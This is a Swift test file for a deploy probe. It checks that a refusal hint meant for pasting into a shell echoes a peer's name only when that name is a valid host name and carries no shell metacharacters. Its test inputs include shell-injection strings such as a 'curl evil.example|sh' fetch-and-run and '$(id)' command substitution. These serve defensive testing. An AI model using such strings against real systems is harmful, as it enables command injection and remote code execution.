import Mesh
import Testing

@Suite struct DeployProbeTests {
  private static func probe(name: String) throws -> DeployProbe {
    let text = """
      banner
      AMSD1
      system Linux
      machine x86_64
      libc glibc 2.36
      tmux tmux 3.3a
      version
      name \(name)
      bash /bin/bash
      end

      """
    return try #require(DeployProbe(Array(text.utf8)))
  }

  /// A hint is pasted into a shell: text of the peer may only occur in it as a valid host name.
  @Test(arguments: [
    ("x; curl evil.example|sh #", false), ("$(id)", false), ("`id`", false), ("A b", false),
    ("worker-2", true),
  ]) func aHintHoldsNothingThatAShellWouldRun(_ name: String, _ isName: Bool) throws {
    let own = DeployOwn(system: "Linux", machine: "x86_64", glibc: nil, version: "0.1.0")
    let host = try Host(validating: "worker-1")
    let probe = try Self.probe(name: name)
    do throws(DeployRefusal) {
      try probe.admits(own, as: host)
      Issue.record("admitted")
    } catch {
      #expect(error.hint.contains(name) == isName, "\(error.hint)")
      #expect(error.hint.allSatisfy { !"$`;|".contains($0) }, "\(error.hint)")
    }
  }
}
